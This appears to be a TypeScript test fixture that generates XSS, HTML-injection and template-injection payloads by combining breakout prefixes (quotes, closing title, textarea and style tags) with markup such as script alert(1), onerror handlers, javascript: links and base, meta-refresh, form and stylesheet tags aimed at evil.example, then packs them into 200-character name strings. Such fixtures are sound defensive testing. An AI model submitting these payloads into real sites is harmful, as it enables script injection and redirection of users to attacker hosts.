/** What somebody could put where a name belongs: each way out of a place, with each thing to do outside. */
export const plantedMarkup: readonly string[] = waysOut().flatMap((out) =>
  harms().map((harm) => (out + harm).trim()),
);

function waysOut(): readonly string[] {
  return [
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</strong></h1>",
    "<!--",
    "&quot;&gt;",
    "\\u0022\\u003e",
  ];
}

function harms(): readonly string[] {
  return [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc=x></iframe>",
    " autofocus onfocus=alert(1) x=",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example>",
    "<input name=csrf value=x>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "&lt;b&gt;&#60;i&#62;",
    "{{7*7}}${7*7}<%= 7*7 %>",
  ];
}

/** As few names as hold all of them, none longer than names may be. */
export function namesOf(payloads: readonly string[], longest = 200): readonly string[] {
  const names: string[] = [];
  for (const payload of payloads) {
    const last = names.at(-1);
    if (last === undefined || last.length + payload.length + 1 > longest) names.push(payload);
    else names[names.length - 1] = `${last} ${payload}`;
  }
  return names;
}
